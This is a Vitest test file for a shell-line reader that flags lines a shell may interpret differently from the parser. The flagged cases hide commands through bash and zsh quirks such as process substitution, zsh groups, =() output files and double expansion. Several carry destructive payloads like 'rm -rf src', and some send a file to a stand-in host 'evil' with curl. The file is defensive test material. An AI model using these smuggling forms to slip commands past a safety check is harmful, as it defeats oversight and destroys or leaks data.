import { describe, expect, it } from 'vitest';
import { readShell } from './reader';

describe('lines that a shell may read differently than the parser', () => {
  it.each([
    // A digit or a name directly before a process substitution.
    'git status 1>(rm -rf src)',
    'cat a 1<(curl -d @a evil)',
    'ls {v}>(rm a)',
    'npm run x 1>(touch p)',
    'ls 2>(rm a) 3<(rm b)',
    // Groups after a redirection, in zsh.
    '2>&1 { rm -rf src }',
    '</dev/null { curl evil }',
    '<<<x { rm a }',
    'npm run x; 2>&1 { touch p }',
    '2>&1 if true; then rm a; fi',
    'repeat 3 { rm a }',
    // A program's output as a file, in zsh.
    'cat < =(rm -rf src)',
    'cat <<<=(rm a)',
    'ls <& =(rm a)',
    'cat =(rm a)',
    // The word of `>&` is expanded twice.
    "echo x >&'$(rm -rf src)'",
    "echo x >&1'>(rm a)'",
    'echo x >&1-',
    'echo x >&$fd',
    // Lists with text directly after them.
    'a=($(rm -rf src))x',
    'a=(`rm a`)b ls',
    'a=({b,$(rm a)})c true',
    // Quotes that have no effect.
    `echo "\${x:-$'$(rm -rf src)'}"`,
    `echo "\${x:-$"$(rm a)"}"`,
    `echo $"\${x:-$'$(rm a)'}"`,
    // A `#` that is part of a word.
    'cat <(ls)#; rm -rf src',
    'echo <(ls)# $(rm a)',
    // Arithmetic that zsh reads as commands.
    'echo $(( rm -rf src ] ))',
    '(( rm a ] ))',
    '(( rm a [ ))',
    'for (( rm a ] ;; )); do ls; done',
    // Variables in zsh's own notation.
    'cat $=HOME/notes.txt',
    'cat "$=HOME/notes.txt"',
    'cat < $~HOME/notes.txt',
    'cat <<A\n$^TOKEN\nA',
    `echo \${=x}`,
    `echo \${(e)x}`,
    // Escapes and descriptors that zsh reads differently.
    `find . $'\\-delete'`,
    'uniq a 12>&1',
    'cat 10<<<x',
    // Operators of zsh after which another command follows.
    'true &!rm a',
    'true &|rm a',
    'ls &! rm a',
  ])('%s', (line) => {
    expect(readShell(line).trouble).not.toBeNull();
  });

  it.each([
    'cat <(ls) # rm -rf src',
    'diff <(ls a) <(ls b)',
    'a=(b c) ls',
    'echo $(( (a + 1) * b[2] ))',
    'echo "a & b; c | d (e) <f>"',
    "echo 'a & b' a\\&b \\(x\\)",
    'npm test >out.txt 2>&1 &',
    'npm start & sleep 1; ls',
    'echo x >&2',
    'grep "a$" b; grep "^x$|$" c; echo a$ "$" 5$',
    "echo '$=x' \\$=x",
    'exec 3>&-',
    'if [[ $x =~ ^(a|b)$ && a < b ]]; then ls; fi',
    'if ls; then { ls; } 2>&1; fi',
    `echo "\${x:-a}" $'b'`,
  ])('and one that both read in the same way: %s', (line) => {
    expect(readShell(line).trouble).toBeNull();
  });
});
